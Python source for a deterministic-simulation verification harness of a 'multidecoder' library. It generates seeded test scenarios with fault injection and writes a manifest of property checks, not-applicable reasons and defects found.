                for idx in (order if rep % 2 == 0 else order[::-1]):
                    seq.append(["scan_fresh", "s0", idx, d])
                    if rng.random() < 0.5:
                        seq.append(["gc"])
            ops.extend(seq)
        if variants and rng.random() < 0.7:
            # the keyword files are replaced in place (same size, same timestamps); registries built afterwards
            at = rng.randint(1, len(ops))
            sidn = "s%d" % (len(scanners) + 1)
            i2, d2 = rng.choice(keys)
            ops[at:at] = [["set_config", 1], ["new", sidn], ["scan", sidn, i2, d2]]
            if rng.random() < 0.5:
                ops.append(["cli", "json", "stdin", i2]) if cli_ok else None
        if cli_keys and not any(o[0] == "cli" for o in ops):
            m, ci = rng.choice(cli_keys)
            ops.insert(rng.randint(1, len(ops)), ["cli", m, rng.choice(["stdin", "file"]), ci])
        worlds.append({
            "hashseed": h, "enum_seed": e, "io_seed": rng.randrange(1 << 30), "env_seed": rng.randrange(1, 1 << 30), "io": io_knobs(rng),
            "env": {"LC_ALL": rng.choice([None, "C", "C.UTF-8"]), "opt": rng.choice(["", "", "-O"]), "vars": env_vars(rng)},
            "default_ctor": rng.random() < 0.5,
            # interpreter state a result must not depend on: collector on/off/eager, recursion limit
            "runtime": {"gc": rng.choice(["default", "default", "off", "aggressive"]), "recursion_limit": rng.choice([None, None, 800, 3000])},
            "kwdir_form": rng.choice(KWDIR_FORMS),
            "lib_sched": lib_sched_spec(rng),
            "ops": ops,
        })
        if ascii_labels and rng.random() < 0.15:
            # a genuinely non-UTF-8 process (legacy locale): only where every path the run touches is ASCII
            worlds[-1]["env"]["LC_ALL"] = "C"
            worlds[-1]["env"].setdefault("vars", {}).update({"PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"})
            worlds[-1]["env"]["vars"].pop("LANG", None)
        # --json and --replace write pure ASCII / raw bytes whatever the labels; the default mode does so
        # when the labels are ASCII (world.py does not apply the knob otherwise)
        worlds[-1]["io"]["stdout_encoding"] = rng.choice(["utf-8", "utf-8", "latin-1", "ascii", "cp1252", "iso8859-15"])
    return {"property": "C09", "seed": seed,
            "config": {"keywords": kw, "include": inc, "exclude": exc, "variants": variants, "ascii_labels": bool(ascii_labels)},
            "corpus": [c.hex() for c in corpus], "worlds": worlds}


# --------------------------------------------------------------------------
# C18


def wrap_form(rng, names):
    if names is None:
        return None
    return [rng.choice(["list", "list", "tuple", "set", "gen"]), names]


def bulk_keyword_file(v, layout):
    """A keyword file larger than any buffer a reader is likely to use (4 KiB .. 128 KiB), made of fixed-width
    8-byte records so that every power-of-two offset falls immediately after a line terminator (or, for the
    shifted CRLF form, between CR and LF): a chunked reader that loses or merges a line at a chunk boundary
    (seeded change c18t) shows up as a wrong keyword set. Derived from the scenario seed without PRNG draws."""
    form = v % 4
    n = 17000 if form == 3 else 9000
    if form in (0, 3):
        content = b"".join(b"kw%05d\n" % i for i in range(n))
    else:
        content = b"".join(b"k%05d\r\n" % i for i in range(n))
        if form == 2:
            content = b"Z" + content
    if (v // 4) % 2:
        content = content[:-1] if form in (0, 3) else content[:-2]  # no terminator after the last line
    d = layout["dirs"][0] + "/" if layout["dirs"] and (v // 8) % 2 else ""
    return {"path": d + "bulk.words", "content": content.hex()}


def gen_c18(seed, shipped, tier="quick"):
    rng = random.Random(seed)
    layout = gen_layout(rng, collisions=True)
    if seed % 16 == 5:
        layout["files"].append(bulk_keyword_file(seed // 16, layout))
    ops = []
    if rng.random() < 0.2:
        # the first thing the process does: several threads build their registries at once
        jobs = []
        for _ in range(rng.choice([2, 2, 3, 4])):
            inc, exc = gen_filter(rng)
            kind = rng.choice(["analyzers", "registry", "registry", "multidecoder"])
            if kind == "multidecoder":
                inc = exc = None
            jobs.append([kind, rng.random() < 0.6 and kind == "registry", wrap_form(rng, inc), wrap_form(rng, exc)])
        spec = {"policy": rng.choice(["rw", "rw", "rw", "rtc"]), "seed": rng.randrange(1 << 30), "quantum": rng.choice([1, 2, 3, 5, 10, 30])}
        ops.append(["par_build", jobs, spec])
    elif rng.random() < 0.3:
        # some decoder modules are already imported (for a helper, say) before the first registry is built
        for m in rng.sample(MODULES, rng.randint(1, 3)):
            ops.append(["import", m])
    for _ in range(rng.randint(1, 8)):
        r = rng.random()
        inc, exc = gen_filter(rng)
        if r < 0.04:
            ops.append(["plugin", rng.choice(["plain", "wrapped", "wrapped", "two"])])
        elif r < 0.22:
            ops.append(["get_keywords", rng.random() < 0.85, rng.random() < 0.5])
        elif r < 0.5:
            ops.append(["get_analyzers", wrap_form(rng, inc), wrap_form(rng, exc)])
        elif r < 0.8:
            ops.append(["build_registry", rng.random() < 0.85, wrap_form(rng, inc), wrap_form(rng, exc), rng.random() < 0.5])
        elif r < 0.92:
            ops.append(["multidecoder", rng.random() < 0.8])
        else:
            ops.append(["cli"])
    worlds = [{
        "hashseed": rng.choice([0, 1, rng.randrange(1 << 32)]),
        "enum_seed": rng.choice([0, rng.randrange(1, 1 << 30), rng.randrange(1, 1 << 30), rng.randrange(1, 1 << 30)]),
        "io_seed": rng.randrange(1 << 30), "env_seed": rng.randrange(1 << 30), "io": io_knobs(rng),
        "env": {"LC_ALL": rng.choice([None, "C", "C.UTF-8"]), "opt": rng.choice(["", "", "-O"])},
        "kwdir_form": rng.choice(KWDIR_FORMS), "lib_sched": lib_sched_spec(rng),
        "ops": ops,
    }]
    if rng.random() < 0.25:
        w2 = dict(worlds[0])
        w2["hashseed"] = rng.randrange(1 << 32)
        w2["enum_seed"] = rng.randrange(1, 1 << 30)
        worlds.append(w2)
    return {"property": "C18", "seed": seed, "layout": layout, "worlds": worlds}


# --------------------------------------------------------------------------
# C20


def gen_c20(seed, shipped, tier="quick", faults=None):
    rng = random.Random(seed)
    if faults is None:
        faults = rng.random() < 0.35
    use_layout = rng.random() < 0.5
    if use_layout:
        layout = gen_layout(rng, collisions=True, small=False)
        hot = layout_collisions(layout)
        words = layout_words(layout)
    else:
        layout = None
        hot = [rng.choice(c) for c in rng.sample(shipped["case_classes"], min(2, len(shipped["case_classes"])))]
        hot += rng.sample(shipped["multi_file"], min(2, len(shipped["multi_file"])))
        words = rng.sample(shipped["all"], min(10, len(shipped["all"])))
    data = gen_input(rng, words, hot, exotic=rng.random() < 0.5, bulk=rng.random() < 0.12)
    runs = []
    for _ in range(rng.randint(2, 6)):
        mode = rng.choice(["json", "json", "default", "default", "replace"])
        knobs = io_knobs(rng)
        knobs["line_buffering"] = rng.random() < 0.2
        run = {"mode": mode, "short": rng.random() < 0.3, "source": rng.choice(["file", "file", "stdin", "stdin", "fifo"]),
               "flag_last": rng.random() < 0.2, "seed": rng.randrange(1 << 30), "knobs": knobs}
        if layout is None and rng.random() < 0.08:
            run["kw_empty"] = True
        if mode == "json" and rng.random() < 0.6:
            run["corrupt"] = {"seed": rng.randrange(1 << 30)}
        ascii_names = layout is None or all(ord(ch) < 128 for f in layout["files"] for ch in f["path"])
        if mode != "default" or ascii_names:
            # --json is pure ASCII and --replace raw bytes whatever the labels; the default rendering is ASCII when the labels are
            knobs["stdout_encoding"] = rng.choice(["utf-8", "utf-8", "latin-1", "ascii", "cp1252"])
        if faults and rng.random() < 0.6:
            r = rng.random()
            if r < 0.3:
                knobs["stdin_fault"] = {"kind": "eio", "at": rng.randint(1, 4)}
            elif r < 0.55:
                knobs["stdout_fault"] = {"kind": "enospc", "at": rng.randint(1, 5)}
            elif r < 0.75:
                knobs["stdout_fault"] = {"kind": "epipe", "at": rng.randint(1, 5)}
            else:
                knobs["stdout_fault"] = {"kind": "crash", "at": rng.randint(1, 6)}
        runs.append(run)
    world = {"hashseed": rng.choice([0, 1, rng.randrange(1 << 32)]),
             "enum_seed": rng.choice([0, rng.randrange(1, 1 << 30), rng.randrange(1, 1 << 30)]),
             "io_seed": rng.randrange(1 << 30), "env_seed": rng.randrange(1 << 30), "io": io_knobs(rng),
             "env": {"LC_ALL": rng.choice([None, "C", "C.UTF-8"]), "opt": rng.choice(["", "", "-O"])},
             "kwdir_form": rng.choice(KWDIR_FORMS), "lib_sched": lib_sched_spec(rng),
             "runs": runs}
    return {"property": "C20", "seed": seed, "family": "faults" if faults else "fault_free",
            "layout": layout, "input": data.hex(), "worlds": [world]}


GEN = {"C09": gen_c09, "C18": gen_c18, "C20": gen_c20}
