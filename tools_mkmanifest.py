"""Regenerate MANIFEST.json (kept as a script so the N/A list and the check
entries stay in one reviewable place)."""
import json

NA = {
 "C01": "totality of scan and the read-only views: pure bytes x int -> tree; 'never hangs' has no blocking call, lock, timer or stream behind it, only loops over the input - no schedule or fault for a simulator to choose (DESIGN 6)",
 "C02": "layered round trip: pure composition of pure decoders through the engine; no environment, clock, I/O or shared state in any anchor (DESIGN 6)",
 "C03": "tree well-formedness / in-bounds spans: a predicate on the value returned by a pure function of the input (DESIGN 6)",
 "C04": "context preservation: offset/stack arithmetic on locals of one call; the registries quantified over are arguments, i.e. inputs (DESIGN 6)",
 "C05": "laminar siblings / suppression: same locals, same call; no interleaving exists inside one scan (DESIGN 6)",
 "C06": "conformance to the interval-nesting model: the thing refined is a deterministic fold over a sorted hit list with nothing to schedule or fail (DESIGN 6)",
 "C07": "depth limit: recursion depth of a pure function; termination is a step count, not liveness after faults (DESIGN 6)",
 "C08": "sub-results equal an independent scan: relates two runs of a pure function; its only environmental failure mode (retained state) is C09's subject and is exercised there (DESIGN 6)",
 "C10": "network indicators well-formed: output predicate of pure regex + validator code (DESIGN 6)",
 "C11": "plain indicators found at any offset: pure; position independence is an input quantifier (DESIGN 6)",
 "C12": "URL / Windows-path parts: pure string arithmetic (DESIGN 6)",
 "C13": "base64 / hex / XOR bit-exact: binascii conversions and byte arithmetic, pure (DESIGN 6)",
 "C14": "XML refs, chr(), unescape(), UTF-16: pure conversions (DESIGN 6)",
 "C15": "concatenation, reversal, replacement: pure regex + slicing (DESIGN 6)",
 "C16": "cmd.exe de-escaping and command delimiting: a character state machine over one bytes argument; 'line continuation' is data, not time (DESIGN 6)",
 "C17": "keyword search: find_all/find_keywords are pure in (keywords, data); the statement is per keyword, so iteration order cannot change its truth; the directory that delivers the list is C18's subject (DESIGN 6)",
 "C19": "flatten: pure function of a tree (DESIGN 6)",
}

def chk(pid, text, note, technique, ref):
    return {
        "property_id": pid,
        "quick_cmd": f"./check {pid} --tier quick",
        "thorough_cmd": f"./check {pid} --tier thorough",
        "evidence_file": f"/verif/evidence/{pid}.json",
        "replay_cmd_template": f"./check {pid} --replay {{path}}",
        "engine": "mdsim",
        "level_claimed": {"category": "exploration", "text": text, "design_ref": ref},
        "level_note": note,
        "technique": technique,
    }

m = {
 "version": 1,
 "setup_cmd": "mkdir -p .build && (clang -shared -fPIC -O2 -o .build/libsimclock.so sim/simclock.c || gcc -shared -fPIC -O2 -o .build/libsimclock.so sim/simclock.c || echo 'no C compiler: clock() shim skipped') && /venv/bin/python -c \"import regex, pefile, sys; sys.path.insert(0, '/repo/src'); import multidecoder.multidecoder, multidecoder.registry; print('setup ok')\"",
 "hooks": {
  "guard": "MULTIDECODER_VERIF",
  "enable": "no hooks: every seam (os.scandir/listdir, builtins.open, sys.std*, sys.argv, sys.settrace, PYTHONHASHSEED, threads) already exists at a module boundary; checks import /repo/src from the working tree",
  "baseline_off_cmd": "cd /repo && /venv/bin/python -m pytest -ra -q -p no:cacheprovider --timeout=900 --continue-on-collection-errors",
  "source_commits": [],
  "add_only": True,
 },
 "engines": [
  {"name": "mdsim", "path": "/verif/sim", "serves_properties": ["C09", "C18", "C20"],
   "kind_free_text": "deterministic simulation: seeded scenarios executed in fresh interpreters ('worlds') with simulator-owned hash seed, directory enumeration order, clock and randomness, locale / -O / stdout encoding, raw file and stdio layers incl. descriptors 0/1 (short reads/writes, EINTR, EIO/ENOSPC/EPIPE, producer crash, FIFO as FILE), a kernel that schedules caller threads AND library-started threads on settrace line events (random walk, site-weighted, PCT, run-to-completion, explicit replay; SimLock-based threading, deterministic executor, simulated timeouts), scan histories incl. aborted scans, fresh buffers and in-place configuration changes; cross-world equality and reference-model oracles; deterministic step-limit hang guard; ddmin + mechanism naming + 3x fresh-process confirmation; JSON replay files"},
 ],
 "checks": [
  chk("C09",
      "seeded search over hash seeds x directory enumeration orders x thread schedules (caller threads through scan()/scan_node() and any threads the library itself starts) x scan histories (re-used/fresh scanners, same input at several depth limits, scans aborted at an arbitrary line, fresh buffers of equal length, keyword files replaced in place, pre-imported decoder modules, caller-mutated results, in-process CLI runs) x interpreter environments (locale, -O, stdout encoding, simulated clock and randomness, keyword-directory path form); every result with the same (configuration, input, depth[, CLI mode]) key must be byte-identical in canonical form across all of them and must not change after it was returned; failures are minimised, mechanism-named (hashseed / enum-order / schedule-or-abort / history / env / io / clock-or-random / unseeded) and replayed 3x before being reported",
      "samples, does not enumerate; C-extension calls are atomic steps; address-order nondeterminism can only be detected as unstable replay, not seeded; trusted base: CPython, the harness's canonical form (reads the six node fields only)",
      "deterministic simulation: multi-world (hash seed, scandir order, env) + baton thread scheduler + history ops, cross-world equality oracle",
      "5.1"),
  chk("C18",
      "seeded search over keyword directory layouts (nesting, duplicate basenames, CR/CRLF/blank lines, dot-files, non-NFC and non-ASCII names, names equal to module names, bracketed / relative / trailing-slash directory paths) x include/exclude arguments (lists, tuples, sets, one-shot generators, overlaps, unknown names) x build/import histories in one interpreter (pre-imported decoder modules, plug-in decoder modules, several builds, concurrent FIRST builds with pre-emption inside module bodies and cooperative import locks), each build under a fresh enumeration permutation, short reads and EINTR; a reference model of the layout (harness-side line splitter and walker) and of the decoder filter is compared behaviourally (searchers applied to a probe text; decoder functions identified by module attribute identity; pinned list of the 30 baseline decoders + AST scan for @decoder)",
      "scoped claim (DESIGN 5.2): the layout->registry mapping on a quiescent file system is a pure function; what the simulation adds is enumeration order, short/interrupted reads and import history. Error faults on keyword files are not injected (statement silent). include=[] is not generated (statement ambiguous).",
      "deterministic simulation: simulated keyword directory (enumeration order, short reads, EINTR) + import/build history, reference-model oracle",
      "5.2"),
  chk("C20",
      "two-party pipeline per scenario: producer = multidecoder.__main__.main() as a simulated process (argv forms, real descriptor 0 fed in seeded chunks, FILE as regular file or FIFO, descriptor-level and buffered output with short writes, EINTR, randomised buffer sizes, stdout encodings, optional EIO/ENOSPC/EPIPE/producer crash), consumer = independent json.loads and the repo's json_to_tree (also with pass-through keyword arguments, and after dropping the root); fault-free runs are compared exactly (JSON = library tree, default output = one line per node in pre-order with ancestor chain, --replace = flatten under a harness-decided precondition, ten kinds of in-transit corruption must compare unequal and the corrupted tree must itself round-trip); fault runs are judged against a fault-free reference run under 'may fail, never wrong data'; a sample of fault-free runs is repeated as a real child process",
      "scoped claim (DESIGN 5.3): the pure clauses (round trip, structural equality) are checked on the trees that cross the pipe (scan results made diverse on purpose), not on arbitrary synthetic trees; stdout is always UTF-8; in-process process model validated against a real child process only on a sample",
      "deterministic simulation: CLI as simulated process over simulated raw streams with fault injection, pipe consumer, reference renderings",
      "5.3"),
 ],
 "not_applicable": [{"property_id": k, "reason": v} for k, v in sorted(NA.items())],
 "notes": "Technique family: deterministic simulation with fault injection only. 17 of 20 properties are pure functions of (bytes, depth, registry) with no schedule, clock, I/O, fault or retained state in their anchors and are listed under not_applicable (DESIGN.md 0, 6). Three genuine defects were found by the checks on the baseline tree (hash-seed and directory-order dependence of the tree, json_to_tree raising on every call, dependence on PYTHONINTMAXSTRDIGITS) and repaired with fix: commits (known_findings.json, findings/); one further defect outside the claimed properties (scan never returns on a truncated PE image) is recorded in findings/observation-C01-truncated-pe-hang.md.",
}
json.dump(m, open("/verif/MANIFEST.json", "w"), indent=1)
print("ok")
